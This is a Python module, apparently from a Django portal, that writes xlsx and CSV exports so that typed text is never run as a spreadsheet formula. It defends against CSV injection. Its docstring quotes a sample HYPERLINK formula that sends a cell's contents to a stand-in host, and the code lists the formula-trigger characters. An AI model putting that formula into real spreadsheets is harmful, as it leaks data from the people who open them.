"""Every spreadsheet the portal writes is built here, so that what people typed stays text.

An organization may call itself ``=HYPERLINK("http://x?"&A1,"点击核对")``. Written as it is,
Excel would run it as a formula in the office's export (OWASP: CSV injection). The rules:

- xlsx: every string goes into a string cell (data type "s", an inline string). Excel and
  LibreOffice show a string cell as stored and never evaluate it, so the value is kept exact:
  no apostrophe is added, and "=1+1" reads back as "=1+1". Numbers, dates and booleans stay
  what they are (a negative number is a number, not text). Characters an xlsx file cannot hold
  at all (C0 controls other than tab, line feed and carriage return) are dropped, as openpyxl
  would refuse the whole workbook otherwise.
- csv: a file has no cell types, so a text value that starts with "=", "+", "-", "@", a tab or
  a carriage return is prefixed with a single quote, as OWASP advises; spreadsheets then show
  it as text. Numbers are written as numbers.

Exports build their workbooks with `workbook()`, write every row with `append()` (or a cell
with `cell()`) and read the file with `to_bytes()`; csv files go through `csv_writer()`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# What makes a spreadsheet read a typed value as a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def text(value: Any) -> Any:
    """The value as a cell holds it: text as a plain str without what xlsx cannot carry."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def cell(ws, value: Any, **style) -> Cell:
    """One cell for `ws` (a streamed or an ordinary sheet): a string is always a string cell,
    never a formula or an error code."""
    value = text(value)
    result = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        result.data_type = "s"
    for name, item in style.items():
        setattr(result, name, item)
    return result


def append(ws, values: Iterable[Any]) -> None:
    """Add a row to `ws`; values that are already cells (styled ones) are kept as they are."""
    ws.append([v if isinstance(v, Cell) else cell(ws, v) for v in values])


def to_bytes(wb: Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_value(value: Any) -> Any:
    """A value for a csv file: text that a spreadsheet would take for a formula is quoted."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _CsvWriter:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow([csv_value(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _CsvWriter:
    """`csv.writer` whose every value goes through `csv_value`."""
    return _CsvWriter(stream, **kwargs)
